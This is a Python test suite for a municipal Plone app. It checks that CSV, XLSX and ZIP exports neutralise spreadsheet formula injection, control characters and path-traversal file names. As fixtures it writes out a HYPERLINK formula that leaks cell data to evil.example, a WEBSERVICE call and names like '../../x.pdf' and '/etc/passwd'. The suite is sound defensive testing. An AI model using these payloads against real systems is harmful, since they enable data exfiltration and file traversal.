"""The staff exports with a citizen's formula payloads, control characters and file names."""

from comune.istanze.backoffice import audit
from comune.istanze.documents.attachments import add_attachment
from comune.istanze.interfaces import IComuneIstanzeLayer
from plone import api
from plone.app.testing import login
from tests.fixtures import PDF
from zope.interface import alsoProvides

import csv
import io
import openpyxl
import zipfile


HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Dettagli")'


def _export(portal, request, fmt, **filters):
    alsoProvides(request, IComuneIstanzeLayer)
    request.form.update(formato=fmt, **filters)
    return api.content.get_view("esporta", portal, request)()


def _poison(office):
    app = office["apps"][0]
    app.indirizzo = HYPERLINK + "\x07"
    office["apps"][1].indirizzo = "-2+3"
    office["apps"][2].indirizzo = "Via \x1bRoma\x00 7"
    return app


def test_csv_neutralises_formulas(portal, office, http_request):
    app = _poison(office)
    login(portal, "istruttore")
    text = _export(portal, http_request, "csv", type="CASA").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    column = rows[0].index("Indirizzo dell'alloggio")
    by_number = {r[0]: r[column] for r in rows[1:]}
    assert by_number[app.number] == "'" + HYPERLINK
    assert by_number[office["apps"][1].number] == "'-2+3"
    assert by_number[office["apps"][2].number] == "Via Roma 7"


def test_xlsx_with_a_control_character_opens_with_text(portal, office, http_request):
    app = _poison(office)
    login(portal, "istruttore")
    data = _export(portal, http_request, "xlsx", type="CASA")  # failed with IllegalCharacterError
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows())
    column = [c.value for c in rows[0]].index("Indirizzo dell'alloggio")
    cells = {r[0].value: r[column] for r in rows[1:]}
    assert cells[app.number].value == "'" + HYPERLINK and cells[app.number].data_type == "s"
    assert cells[office["apps"][2].number].value == "Via Roma 7"
    assert not any(c.data_type == "f" for r in rows for c in r)


def test_zip_entry_names_are_sanitised(portal, office, http_request):
    app = office["apps"][0]
    for name in ("../../x.pdf", "..\\..\\x.pdf", "/etc/passwd", "a\x00b.pdf", "y" * 300 + ".pdf",
                 "doppio.pdf", "doppio.pdf"):
        add_attachment(app, "Contratto di locazione", PDF, name, app.applicant_id, replace=False)
    login(portal, "istruttore")
    data = _export(portal, http_request, "zip", type="CASA")
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    mine = [n for n in names if n.startswith(app.number + "/")]
    assert len(mine) == 8 and len(set(names)) == len(names)
    for name in mine:
        folder, _sep, leaf = name.partition("/")
        assert folder == app.number and "/" not in leaf and "\\" not in leaf and ".." not in leaf
        assert "\x00" not in leaf and len(leaf.encode("utf-8")) <= 120
    assert f"{app.number}/Contratto di locazione - doppio.pdf" in mine
    assert f"{app.number}/Contratto di locazione - doppio (2).pdf" in mine
    assert any(e["detail"] == "allegati" for e in audit.entries(office["casa"], app.UID()))


def test_audit_log_csv_is_safe(portal, office, http_request):
    app = office["apps"][0]
    audit.record(app, "note", "=WEBSERVICE(\"http://evil.example\")")
    rows = list(csv.reader(io.StringIO(audit.to_csv(office["casa"]), newline="")))
    assert rows[-1][-1] == "'=WEBSERVICE(\"http://evil.example\")"
